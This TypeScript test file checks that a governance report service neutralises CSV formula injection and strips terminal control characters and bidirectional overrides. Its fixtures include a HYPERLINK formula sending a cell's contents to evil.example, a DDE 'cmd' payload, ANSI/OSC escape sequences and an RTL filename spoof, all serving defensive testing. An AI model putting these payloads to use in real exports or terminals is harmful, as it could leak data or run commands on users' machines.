/**
 * Issue 21, report findings: CSV cells a spreadsheet would run as a formula are neutralised; the table format
 * (for a terminal) writes no control characters or bidirectional overrides. The rows are written to the store
 * directly, as rows stored before feedback fields were checked would be.
 */
import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { SqliteFeedbackStore } from '../../src/store/sqlite-store.js';
import { ReportService } from '../../src/service/report-service.js';
import { CSV_HEADER } from '../../src/report/formats/csv.js';
import { renderReport } from '../../src/report/render.js';
import type { Feedback } from '../../src/contract/types.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tleading-tab', '\rleading-cr'];
const ESCAPES = ['\u001b[2J\u001b[31mred', '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007', 'bell\u0007', 'rtl\u202eexe.txt', 'c1\u009b31m'];

let service: ReportService;
let store: SqliteFeedbackStore;
beforeAll(async () => {
  store = new SqliteFeedbackStore(path.join(mkdtempSync(path.join(os.tmpdir(), 'ifn-hard-report-')), 'feedback.sqlite'));
  const codes = [...FORMULAS, ...ESCAPES];
  const cards = codes.map((_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
  store.recordShown(cards.map((card) => ({ card, serviceId: 'ifn-timing-order-select', hook: 'order-select', hookInstance: 'h', decisionCode: 'ifn-window', indicator: 'warning', shownAt: '2026-06-15T10:00:00.000Z', overrideReasons: [], suggestions: {} })));
  const items: Feedback[] = codes.map((code, i) => ({ card: cards[i]!, outcome: 'overridden', overrideReason: { reason: { code } }, outcomeTimestamp: '2026-06-15T10:05:00Z' }));
  await store.save('ifn-timing-order-select', items, new Date('2026-06-15T10:05:00Z'));
  service = new ReportService({ store, locale: 'en', now: () => new Date('2026-07-01T00:00:00Z') });
});
afterAll(() => store.close());

/** RFC 4180 cells of one CSV text. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  for (let m = re.exec(text); m && m[0] !== ''; m = re.exec(text)) cells.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!);
  return cells;
}

describe('governance report formats', () => {
  it('csv: no cell starts with = + - @, a tab or a CR (the reason codes are there, neutralised)', async () => {
    const cells = csvCells((await service.rendered({}, 'csv')).body);
    expect(cells).toHaveLength(2 * CSV_HEADER.length);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    // Each formula alone at the start of a cell (a reason code, and a name): an apostrophe in front, the rest kept.
    const base = await service.report({});
    for (const formula of FORMULAS) {
      const report = { ...base, rows: [{ ...base.rows[0]!, name: formula, override_reasons: { [formula]: 1 } }] };
      const row = csvCells(renderReport(report, 'csv', 'en').body).slice(CSV_HEADER.length);
      expect(row[CSV_HEADER.indexOf('name')]).toBe(`'${formula}`);
      expect(row[CSV_HEADER.indexOf('override_reasons')]).toBe(`'${formula}=1`);
    }
  });

  it('table: no control characters but newlines, no bidirectional overrides; the text around them kept', async () => {
    const table = (await service.rendered({}, 'table')).body;
    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(table).toContain('[2J[31mred');
    expect(table).toContain('rtlexe.txt');
  });
});
